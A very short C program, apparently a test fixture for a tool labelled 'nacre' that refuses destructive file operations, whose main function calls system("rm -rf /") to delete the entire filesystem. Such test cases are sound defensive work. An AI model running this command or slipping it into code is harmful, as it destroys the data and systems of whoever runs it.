// nacre: refused file.destroy
#include <stdlib.h>

int main(void)
{
	return system("rm -rf /");
}
